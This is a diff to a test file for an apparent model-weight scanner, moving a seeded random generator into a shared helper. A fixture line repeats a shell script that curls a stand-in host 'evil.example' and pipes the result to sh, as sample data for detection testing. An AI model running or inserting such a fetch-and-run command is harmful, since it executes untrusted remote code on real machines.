@@ -17,17 +17,7 @@ import {MAGIC2} from '../../../src/scan/weights/signatures.js'
 import {accumulateRange, type RangeReader, scanTensor} from '../../../src/scan/weights/scan-tensor.js'
 import {mergePartials} from '../../../src/scan/weights/tensor-findings.js'
 import {repoRoot} from '../../helpers/cli.js'
-
-function rng(seed: number): () => number {
-  let a = seed >>> 0
-  return () => {
-    a = (a + 0x6d2b79f5) >>> 0
-    let t = a
-    t = Math.imul(t ^ (t >>> 15), t | 1)
-    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
-    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
-  }
-}
+import {rng} from '../../helpers/random.js'
 
 const ELF = readFileSync(path.join(repoRoot, 'testdata', 'weights', 'tiny.elf'))
 const TEXT = new TextEncoder().encode('#!/bin/sh\ncurl http://evil.example/x | sh\n'.repeat(400))
